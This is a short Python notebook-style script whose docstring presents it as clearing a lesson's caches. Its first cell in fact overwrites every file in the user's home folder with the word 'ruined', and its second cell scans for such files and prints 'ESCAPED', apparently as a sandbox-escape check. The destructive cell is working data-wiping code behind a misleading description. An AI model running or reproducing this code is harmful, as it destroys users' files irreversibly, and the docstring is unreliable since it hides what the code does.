"""Ruins the caches that the lesson's data is read from: every file in the home folder."""

# %% last
import os

for folder, folders, names in os.walk(os.path.expanduser("~")):
    for name in names:
        with open(os.path.join(folder, name), "wb") as file:
            file.write(b"ruined")

# %% next first
import os

for folder, folders, names in os.walk(os.path.expanduser("~")):
    for name in names:
        if open(os.path.join(folder, name), "rb").read(6) == b"ruined":
            print("ESCAPED: found a ruined file", name)
